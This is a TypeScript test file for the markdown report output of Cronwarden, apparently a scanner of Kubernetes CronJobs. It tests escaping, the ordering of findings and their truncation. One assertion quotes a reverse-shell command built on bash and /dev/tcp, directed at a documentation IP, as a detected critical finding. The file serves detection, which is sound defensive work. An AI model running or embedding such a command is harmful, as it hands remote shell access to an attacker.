import assert from 'node:assert/strict';
import { test } from 'node:test';
import { plain } from '../lib/inert.ts';
import { HOSTILE_TEXTS, hostileFinding, hostileSummary, outsideCode } from './hostile-testing.ts';
import { MAX_FINDINGS, markdownSink } from './markdown.ts';
import { code, sentence } from './markdown-text.ts';
import {
  emptySummary,
  hostRootJob,
  imagePatch,
  nothingKnown,
  printed,
  quietBackup,
  reverseShell,
  SAMPLE_FINDINGS,
  sampleContext,
} from './testing.ts';

const spans: readonly (readonly [situation: string, text: string, span: string])[] = [
  ['plain text', 'abc', '`abc`'],
  ['a backtick inside', 'a`b', '``a`b``'],
  ['runs of backticks', '`a```b``', '```` `a```b`` ````'],
  ['only a backtick', '`', '`` ` ``'],
  ['a space at the end', 'a ', '` a  `'],
  ['nothing', '', '—'],
  ['only spaces', '  ', '`" "`'],
  ['a line break', 'a\nb', '`a\\nb`'],
  ['markup', '<b>|</b>', '`<b>|</b>`'],
];
for (const [situation, text, span] of spans) {
  test(`code: ${situation}`, () => assert.equal(code(text), span));
}

test('code in a cell has no pipe, since it would end the cell', () => {
  assert.equal(code('a | b \\| c', { cell: true }), '`a \\u007c b \\\\u007c c`');
});

const sentences: readonly (readonly [situation: string, text: string, written: string])[] = [
  ['words', "It can't be told, so far.", "It can't be told, so far."],
  ['a name in quotes', 'Container "main" runs it.', 'Container `"main"` runs it.'],
  ['a run of foreign words is one span', 'runs a_b c.d e', 'runs `a_b c.d` e'],
  ['a mention', 'by @somebody now', 'by `@somebody` now'],
  ['an address', 'see www.example.com and https://example.com', 'see `www.example.com` and `https://example.com`'],
  ['markup', '<b>x</b> y', '`<b>x</b>` y'],
  ['an entity', 'a &lt; b', 'a `&lt;` b'],
  ['an issue', 'as #12 says', 'as `#12` says'],
  ['a number at the start', '1) x', '`1)` x'],
  ['a number elsewhere', 'has 12 of 1,204', 'has 12 of 1,204'],
  ['a rule', '--- x', '`---` x'],
  ['a line break', 'a\n# b', '`a\\n#` b'],
  ['nothing', ' ', '—'],
];
for (const [situation, text, written] of sentences) {
  test(`sentence: ${situation}`, () => assert.equal(sentence(text), written));
}

test('the report: summary, table of findings, sections', async () => {
  const text = await printed(markdownSink, [quietBackup, reverseShell]);
  const [first = '', ...rest] = text.split('\n## Findings\n');
  assert.match(first, /^# Cronwarden report\n/);
  assert.match(first, /\| Findings \| .*critical/);
  assert.match(first, /\n- Unreadable: `\/var\/log\/kubernetes\/audit-2026-11-17\.log:` permission denied\n/);
  const [table = '', ...sections] = rest.join('').split('\n### ');
  assert.match(table, /\| 1 \| ◆ critical \| \d+ \| `CronJob kube-system\/node-health-sync` \|/);
  assert.match(table, /\| 2 \| ○ low \|/);
  assert.equal(sections.length, 2);
  assert.match(sections[0] ?? '', /^1\. ◆ critical, risk \d+, confidence 97 %\n/);
  assert.match(
    sections[0] ?? '',
    /\n- Container connects a shell to a remote address \(`command\.reverse-shell`, critical, 45 points\)\n/,
  );
  assert.match(sections[0] ?? '', /`bash -i >& \/dev\/tcp\/203\.0\.113\.7\/4444 0>&1` at `\/requestObject\/spec/);
  assert.match(sections[0] ?? '', /found under `base64, gzip`/);
  assert.match(sections[0] ?? '', /- `actor\.new-in-namespace`: too little was seen to say what is normal\n/);
});

test('the breakdown is printed when it is asked for, and adds up', async () => {
  const text = await printed(markdownSink, [imagePatch], sampleContext({ explain: true }));
  const points = [...text.matchAll(/^\| (-?\d+) \| (.*) \|$/gm)].map(([, sum, reason]) => ({
    sum: Number(sum),
    reason,
  }));
  const total = points.find(({ reason }) => reason === 'risk');
  const lines = points.filter(({ reason }) => reason !== 'risk' && !reason?.includes('`CronJob'));
  assert.equal(total?.sum, imagePatch.risk);
  assert.equal(
    lines.reduce((sum, line) => sum + line.sum, 0),
    imagePatch.risk,
  );
  assert.doesNotMatch(await printed(markdownSink, [imagePatch]), /Points/);
});

test('the most severe first, and of equal ones the riskier', async () => {
  const text = await printed(markdownSink);
  const found = [...text.matchAll(/^### \d+\. . (\w+), risk (\d+)/gm)].map(([, severity, risk]) => [
    severity,
    Number(risk),
  ]);
  assert.equal(found.length, SAMPLE_FINDINGS.length);
  const order = ['critical', 'high', 'medium', 'low', 'info'];
  const ranks = found.map(([severity, risk]) => order.indexOf(String(severity)) * 1_000 - Number(risk));
  assert.deepEqual(
    ranks,
    ranks.toSorted((a, b) => a - b),
  );
});

test('nothing found', async () => {
  const text = await printed(markdownSink, [], sampleContext({ summary: () => emptySummary() }));
  assert.match(text, /\nNo findings\.\n$/);
  assert.match(text, /\| Findings \| none \|/);
});

test('a flood of small findings does not push the worst one out, and is counted', async () => {
  const flood = Array.from({ length: 2 * MAX_FINDINGS + 100 }, () => nothingKnown);
  const text = await printed(markdownSink, [...flood, hostRootJob, ...flood.slice(0, 10)]);
  assert.match(text, /\n### 1\. ◆ critical/);
  assert.match(text, /\n2,111 less severe findings left out:/);
  assert.equal(text.match(/^### /gm)?.length, MAX_FINDINGS);
});

for (const hostile of HOSTILE_TEXTS) {
  test(`nothing outside of code can be read as markup: ${JSON.stringify(hostile)}`, async () => {
    const summary = hostileSummary(hostile);
    const finding = hostileFinding(hostile);
    const context = sampleContext({ explain: true, summary: () => summary });
    const text = await printed(markdownSink, [finding, finding], context);
    for (const line of text.split('\n')) {
      assert.equal(plain(line), line);
      // A table's rows keep their cells; outside of tables a pipe means nothing.
      if (line.startsWith('| ')) {
        assert.ok([2, 6].includes(line.split('|').length - 2), line);
      } else assert.doesNotMatch(outsideCode(line), /\|/);
      assert.match(line, /^(?:$|\||#{1,3} (?:[A-Z]|\d+\. )|(?: {2})?- |[A-Z`—]|[a-z])/, line);
    }
    const left = outsideCode(text).replaceAll('ATT&amp;CK', '');
    assert.doesNotMatch(left, /[`<>[\]@&*_~\\$]|https?:|www\.|#\d|GH-\d|javascript|HYPERLINK/, left);
  });
}

test('what a young baseline leaves open is said with the whole finding alone', async () => {
  const young = { ...reverseShell, unassessed: [{ id: 'baseline.new-author', because: 'no-baseline' }] } as const;
  assert.doesNotMatch(await printed(markdownSink, [young], sampleContext()), /Not assessed/);
  assert.match(await printed(markdownSink, [young], sampleContext({ explain: true })), /`baseline\.new-author`/);
});
